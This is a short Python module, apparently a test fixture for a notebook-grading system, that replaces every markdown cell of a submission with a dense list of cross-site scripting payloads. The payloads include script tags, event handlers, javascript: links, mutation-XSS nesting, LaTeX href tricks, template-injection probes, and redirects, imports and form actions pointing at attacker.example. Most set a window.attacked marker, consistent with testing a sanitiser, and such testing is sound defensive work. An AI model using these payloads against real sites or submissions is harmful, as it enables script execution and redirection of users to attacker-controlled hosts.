"""Answers the written question with script in every form that markdown and HTML know."""

SHOWS = {"status": "graded"}

TEXT = """
<script>window.attacked = 'script'</script><img src=x onerror="window.attacked='image'"><svg/onload="window.attacked='svg'">
[click](javascript:window.attacked='link') [data](data:text/html,<script>alert(1)</script>) ![x](javascript:alert(1))
<a href="&#106;avascript:alert(1)">x</a><iframe srcdoc="<script>top.attacked='frame'</script>"></iframe><object data="data:text/html,x"></object>
<details open ontoggle="window.attacked='toggle'"><summary>x</summary></details><style>@import 'http://attacker.example/x';body{display:none}</style>
<form action="http://attacker.example/"><input name=x autofocus onfocus="window.attacked='focus'"><button formaction="javascript:alert(1)">go</button></form>
<base href="http://attacker.example/"><meta http-equiv="refresh" content="0;url=http://attacker.example/"><link rel=stylesheet href=http://attacker.example/x>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.attacked='mutation'&gt;">
$$\\href{javascript:window.attacked='formula'}{x} \\unicode{<img src=x onerror=alert(1)>}$$ <!--><img src=x onerror=alert(1)>-->
{{ config }} {% raw %} ${7*7} </pre></textarea></title></script><script>window.attacked='closed'</script>
"""


def attack(submission):
    for cell in submission.cells:
        if cell["cell_type"] == "markdown":
            cell["source"] = TEXT
